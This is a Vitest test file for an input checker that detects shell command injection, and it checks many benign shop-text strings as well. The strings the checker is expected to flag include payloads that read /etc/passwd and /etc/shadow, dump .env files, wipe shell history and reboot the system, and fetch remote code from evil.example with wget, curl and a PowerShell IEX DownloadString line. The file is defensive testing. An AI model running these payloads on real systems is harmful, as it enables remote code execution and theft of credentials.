import { expect, test } from 'vitest'
import { checkInput, isAttackCode, type InputType } from '../check-input.ts'

const attacks = (text: string, type: InputType = 'general') =>
  checkInput(type, text)
    .errors.map(({ code }) => code)
    .filter(isAttackCode)

test.each([
  'Xem ảnh (./anh.jpg)',
  '[xem](./anh-lon)',
  'Gross 600 g; net 500 g',
  'Suite 5; at 123 Baker Street',
  'Boots & set 100 laces',
  'Skates; net $120; tax $12',
  'Giao thứ 7; time ~17h',
  'boots, laces & more ...',
  'Sale & more -50%',
  'Combo & set -giảm giá',
  'Mix & cut *here*',
  'Giày & free *',
  'last & read /đọc/',
  'details; more https://luot.vn/size',
  'Cỡ:\n{37,38,39}',
  'Sizes; {37,38}',
])('“%s” has no argument of a command', (text) => expect(attacks(text)).toEqual([]))

test.each([
  'eat well & sleep 8 hours',
  'Holiday hours & shutdown dates',
  'Original & reboot comparisons',
  'IP & hostname of the server?',
  'dog && cat',
  'hyphen | dash',
  'tên;id',
  'sku;id;name',
  'Heating system ($50 extra)',
  'Boa lacing system ("dial")',
  'Nhấn Cmd/Ctrl+C để chép',
  'Menu > /home/sale',
  'Đổi 37->(free ship) 38',
  '=>(set 2 đôi)',
  'Giày đỏ >(more) giày xanh',
  'My mum will come & fetch it.Thanks!',
  'Họ tên & ID / CCCD',
  '; get-well soon',
])('“%s” has no command', (text) => expect(attacks(text)).toEqual([]))

test.each(['rest&sleep 8H!', 'P@ss;sleep 7x', 'a;shutdown X9', 'Ngủ; sleep 8 giờ A'])(
  'a password like %s is no command',
  (text) => expect(attacks(text, 'password')).toEqual([]),
)
test('an option with its value is an argument in a password too', () =>
  expect(attacks('Aa1!; ping -c 5 10.0.0.1', 'password')).toEqual(['CMD']))

test.each([
  ';(cat /etc/passwd)',
  ';{ cat /etc/passwd; }',
  ';{ id; }',
  ';"cat" /etc/passwd',
  ";'cat' /etc/passwd",
  ';\\cat /etc/passwd',
  ';c$()at /etc/passwd',
  '; if true; then cat /etc/passwd; fi',
  '; for i in 1; do cat /etc/passwd; done',
  '; ! cat /etc/passwd',
  '; command cat /etc/passwd',
  '; nice -n 5 cat /etc/passwd',
  '; doas cat /etc/shadow',
  '; busybox wget http://evil.example',
  '; X=1 ls -la',
  '; exec bash',
  ';eval id',
])('%s wraps its command', (text) => expect(attacks(text)).toContain('CMD'))

test.each([
  '; cd /tmp',
  '& cd c:\\',
  '; find . -name "*.env"',
  '; history -c',
  '; top -b -n1',
  '; md5sum /etc/passwd',
  '; wc -l /etc/passwd',
  '; uniq /etc/passwd',
  '; anything -x --y=z /var/log/x',
  '; tree /etc',
  '; nmap -sV 10.0.0.1',
  '; tcpdump -i eth0',
  '; strace -p 1',
  '; ss -tulpn',
  '; watch -n 1 id',
  '; dnf install x',
  '; go run /tmp/x.go',
  '; init 0',
  '& sysinfo',
  ';phpinfo();//',
  ';${@print(md5(x))};',
  '; at now + 1 minute',
  '`ps aux`',
  '`dig evil.example`',
  '& findstr /s password *.txt',
  '& curl.exe http://evil.example',
  '& start calc.exe',
  '& rundll32 url.dll,x',
  '& sc stop x',
  '& fetch http://evil.example/x',
  '& host evil.example',
  "; IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
  '& Invoke-Expression (iwr http://evil.example/a.ps1)',
  'diff <(cat x) y',
  'x >(id)',
])('%s is a command with its argument', (text) => expect(attacks(text)).toContain('CMD'))

test.each([
  '; cat .env',
  '; cat *',
  '; cat *.txt',
  '; cat ~/.bashrc',
  '; cat $HOME/x',
  '; head -1 x',
  '; tail -n20 x',
  '; sleep 5',
  '& sleep 5 &',
  ';reboot',
  '; hostname',
  '; chmod 777 x',
  '; wget http://evil.example',
  '&& echo pwned',
  '1;id',
  ';{cat,/etc/passwd}',
  'system("cat /etc/passwd")',
  'cmd /c dir',
  'cmd.exe /cdir',
  '> /home/lan/x',
  ';./x.sh',
  '$(./x.sh)',
])('%s is still found', (text) => expect(attacks(text)).toContain('CMD'))
